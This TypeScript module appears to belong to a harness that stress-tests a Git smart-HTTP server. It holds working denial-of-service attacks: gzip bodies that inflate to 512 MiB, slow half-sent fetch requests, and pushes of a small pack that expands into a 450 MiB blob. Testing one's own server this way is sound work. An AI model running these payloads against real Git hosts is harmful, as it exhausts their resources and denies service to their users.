import { createHash } from 'node:crypto';
import { createDeflate, createGzip } from 'node:zlib';
import type { Transform } from 'node:stream';
import { answer } from './bodies.js';
import { repeat, type Attack, type Target } from './attack.js';
import { WirePost } from './wire.js';

const MIB = 2 ** 20;
const NOTHING = '0'.repeat(40);
const BLOB = 3;

/** Compressed requests that inflate to 512 MiB, of anonymous fetches and of pushes. */
export const inflation: Attack = async (target, tally) => {
  const body = await compressed(createGzip(), 512 * MIB);
  const headers = ['Content-Encoding: gzip', `Content-Length: ${body.length}`];
  repeat(tally, 8, 50, (lane) =>
    answer(post(target, lane % 2 ? 'receive' : 'upload', headers, body, `127.0.6.${1 + lane}`)),
  );
};

/** 300 fetches of anonymous callers at 30 addresses that never complete their request. */
export const halfSentFetches: Attack = async (target, tally) => {
  repeat(tally, 300, 1_000, (lane) =>
    answer(post(target, 'upload', ['Content-Length: 5000'], '0014command=ls-refs\n', `127.0.1.${1 + (lane % 30)}`)),
  );
};

/** Pushes of a pack of some 450 KiB that has one blob of 450 MiB. */
export const expandingPacks: Attack = async (target, tally) => {
  const size = 450 * MIB;
  const name = createHash('sha1').update(`blob ${size}\0`);
  for (let left = size; left > 0; left -= MIB) name.update(ZEROS);
  const command = `${NOTHING} ${name.digest('hex')} refs/tags/large\0report-status`;
  const pack = Buffer.concat([packHeader(1), objectHeader(size), await compressed(createDeflate(), size)]);
  const body = Buffer.concat([
    Buffer.from(`${(command.length + 4).toString(16).padStart(4, '0')}${command}0000`),
    pack,
    createHash('sha1').update(pack).digest(),
  ]);
  repeat(tally, 8, 50, () => answer(post(target, 'receive', [`Content-Length: ${body.length}`], body)));
};

const ZEROS = Buffer.alloc(MIB);

function post(
  { url, gitPath, token }: Target,
  service: 'upload' | 'receive',
  headers: readonly string[],
  body: Buffer | string,
  from?: string,
): WirePost {
  const basic = Buffer.from(`oauth2:${token}`).toString('base64');
  const own = service === 'receive' ? [`Authorization: Basic ${basic}`] : ['Git-Protocol: version=2'];
  const type = `Content-Type: application/x-git-${service}-pack-request`;
  const path = `${gitPath}/git-${service}-pack`;
  return WirePost.send(url, { path, headers: [type, ...own, ...headers], body, ...(from && { from }) });
}

/** So many zeros, compressed. */
async function compressed(stream: Transform, size: number): Promise<Buffer> {
  const pieces: Buffer[] = [];
  stream.on('data', (piece: Buffer) => pieces.push(piece));
  for (let left = size; left > 0; left -= MIB)
    await new Promise<void>((resolve, reject) => stream.write(ZEROS, (error) => (error ? reject(error) : resolve())));
  await new Promise<void>((resolve) => stream.end().on('end', resolve));
  return Buffer.concat(pieces);
}

function packHeader(objects: number): Buffer {
  const header = Buffer.from('PACK\0\0\0\u0002\0\0\0\0', 'latin1');
  header.writeUInt32BE(objects, 8);
  return header;
}

/** Type and size of an object in a pack: four bits of the size beside the type, then seven in each byte. */
function objectHeader(size: number): Buffer {
  const bytes: number[] = [];
  let current = (BLOB << 4) | (size & 15);
  for (let rest = Math.floor(size / 16); rest > 0; rest = Math.floor(rest / 128)) {
    bytes.push(current | 128);
    current = rest & 127;
  }
  return Buffer.from([...bytes, current]);
}
